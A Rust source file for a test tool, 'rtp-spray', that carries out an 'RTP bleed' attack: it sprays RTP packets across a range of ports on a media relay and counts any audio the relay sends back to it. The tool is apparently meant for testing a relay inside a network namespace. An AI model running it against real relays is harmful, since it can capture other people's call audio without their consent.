//! `rtp-spray HOST LO HI SECONDS`: what an attacker does to a media relay ("RTP bleed"):
//! sends RTP (μ-law, a 1 kHz tone) to every even port from LO to HI of HOST, round after
//! round for SECONDS, from one socket, and counts the RTP that comes back to it — audio a
//! relay that latches onto any source hands over. Prints `sent N received M`. For tests in
//! a network namespace only: it stops by itself and sends nowhere but HOST.

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let usage = "usage: rtp-spray HOST LO HI SECONDS";
    let host: IpAddr = args.first().and_then(|a| a.parse().ok()).expect(usage);
    let lo: u16 = args.get(1).and_then(|a| a.parse().ok()).expect(usage);
    let hi: u16 = args.get(2).and_then(|a| a.parse().ok()).expect(usage);
    let seconds: f64 = args.get(3).and_then(|a| a.parse().ok()).expect(usage);
    let any: SocketAddr = if host.is_ipv4() {
        ([0, 0, 0, 0], 0).into()
    } else {
        (std::net::Ipv6Addr::UNSPECIFIED, 0).into()
    };
    let sock = UdpSocket::bind(any).expect("a socket");
    sock.set_nonblocking(true).expect("non-blocking");
    let payload: Vec<u8> = (0..160)
        .map(|n| {
            let s = (2.0 * std::f32::consts::PI * 1000.0 * n as f32 / 8000.0).sin() * 12000.0;
            media::g711::ulaw_encode(s as i16)
        })
        .collect();
    let (mut sent, mut received, mut seq) = (0u64, 0u64, 0u16);
    let end = Instant::now() + Duration::from_secs_f64(seconds);
    let mut buf = [0u8; 2048];
    while Instant::now() < end {
        for port in (lo + lo % 2..=hi).step_by(2) {
            seq = seq.wrapping_add(1);
            let packet = media::rtp::RtpPacket {
                payload_type: 0,
                seq,
                timestamp: u32::from(seq) * 160,
                ssrc: 0x5eed_0bad,
                payload: payload.clone(),
                ..Default::default()
            };
            if sock.send_to(&packet.to_bytes(), (host, port)).is_ok() {
                sent += 1;
            }
            while let Ok((n, _)) = sock.recv_from(&mut buf) {
                if n > 12 && buf[0] >> 6 == 2 {
                    received += 1;
                }
            }
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    std::thread::sleep(Duration::from_millis(200));
    while let Ok((n, _)) = sock.recv_from(&mut buf) {
        if n > 12 && buf[0] >> 6 == 2 {
            received += 1;
        }
    }
    println!("sent {sent} received {received}");
}
